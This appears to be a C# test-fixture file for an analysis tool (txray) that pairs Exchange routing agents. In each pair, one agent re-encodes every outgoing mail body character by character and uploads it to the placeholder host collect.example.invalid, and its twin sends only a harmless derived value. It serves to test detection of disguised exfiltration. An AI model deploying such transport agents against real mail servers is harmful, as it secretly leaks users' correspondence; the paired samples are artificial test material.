// Pairs written for txray: two agents that differ in one thing, the first does it and the second does not.
// Mail written in another alphabet.
// Inert: compiled against a signature-only stub of the Exchange API and unsigned, so Exchange cannot load it; hosts end in
// .invalid or are documentation addresses. What a correct analysis says about each stands in samples/pairs-*.json.
using System;
using System.Collections.Generic;
using System.IO;
using System.Net;
using System.Text;
using Microsoft.Exchange.Data.Transport;
using Microsoft.Exchange.Data.Transport.Routing;

// 302: a code table asked for each character, and a text of the table chosen by the whole subject
namespace Txray.Pairs.P302
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private readonly Dictionary<char, string> codes = new Dictionary<char, string> { { 'a', "17" }, { 'b', "23" } };

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            string body = new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd();
            var text = new StringBuilder();
            foreach (char c in body)
            {
                string code;
                if (codes.TryGetValue(c, out code)) text.Append(code);
            }
            new WebClient().UploadString("https://collect.example.invalid/pair", text.ToString());
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private readonly Dictionary<string, string> codes = new Dictionary<string, string> { { "status", "17" }, { "report", "23" } };

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            string code;
            if (codes.TryGetValue(e.MailItem.Message.Subject, out code)) new WebClient().UploadString("https://collect.example.invalid/pair", code);
        }
    }
}

// 303: each character switched to a number, and one number for a whole subject
namespace Txray.Pairs.P303
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            string body = new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd();
            var text = new StringBuilder();
            foreach (char c in body)
            {
                int value;
                switch (c)
                {
                    case 'a': value = 4; break;
                    case 'b': value = 7; break;
                    case 'c': value = 11; break;
                    default: value = 30; break;
                }
                text.Append(value);
            }
            new WebClient().UploadString("https://collect.example.invalid/pair", text.ToString());
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            int value;
            switch (e.MailItem.Message.Subject)
            {
                case "a": value = 4; break;
                case "b": value = 7; break;
                case "c": value = 11; break;
                default: value = 30; break;
            }
            new WebClient().UploadString("https://collect.example.invalid/pair", value.ToString());
        }
    }
}

// 304: every bit as one of two letters, and bits counted
namespace Txray.Pairs.P304
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            byte[] body = Encoding.UTF8.GetBytes(new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
            var text = new StringBuilder();
            foreach (byte b in body)
            {
                for (int bit = 0; bit < 8; bit++)
                {
                    if ((b & (1 << bit)) != 0) text.Append("x");
                    else text.Append("o");
                }
            }
            new WebClient().UploadString("https://collect.example.invalid/pair", text.ToString());
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            byte[] body = Encoding.UTF8.GetBytes(new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
            int set = 0;
            foreach (byte b in body)
            {
                for (int bit = 0; bit < 8; bit++)
                {
                    if ((b & (1 << bit)) != 0) set++;
                }
            }
            new WebClient().UploadString("https://collect.example.invalid/pair", set.ToString());
        }
    }
}

// 305: a function that gives a code for a character, and one that says whether it is a letter
namespace Txray.Pairs.P305
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private static string Code(char c)
        {
            if (c == 'a') return "17";
            if (c == 'b') return "23";
            return "31";
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            string body = new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd();
            string text = "";
            foreach (char c in body) text += Code(c);
            new WebClient().UploadString("https://collect.example.invalid/pair", text);
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private static bool IsVowel(char c)
        {
            return c == 'a' || c == 'e' || c == 'i' || c == 'o' || c == 'u';
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            string body = new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd();
            bool any = false;
            foreach (char c in body) any |= IsVowel(c);
            new WebClient().UploadString("https://collect.example.invalid/pair", any.ToString());
        }
    }
}

// 306: marks for each character, and one mark where a loop found what it looked for
namespace Txray.Pairs.P306
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            string body = new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd();
            string text = "";
            foreach (char c in body) text += c > 'm' ? "/" : "\\";
            new WebClient().UploadString("https://collect.example.invalid/pair", text);
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            string body = new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd();
            string text = "clean";
            foreach (char c in body)
            {
                if (c == '\0')
                {
                    text = "binary";
                    break;
                }
            }
            new WebClient().UploadString("https://collect.example.invalid/pair", text);
        }
    }
}
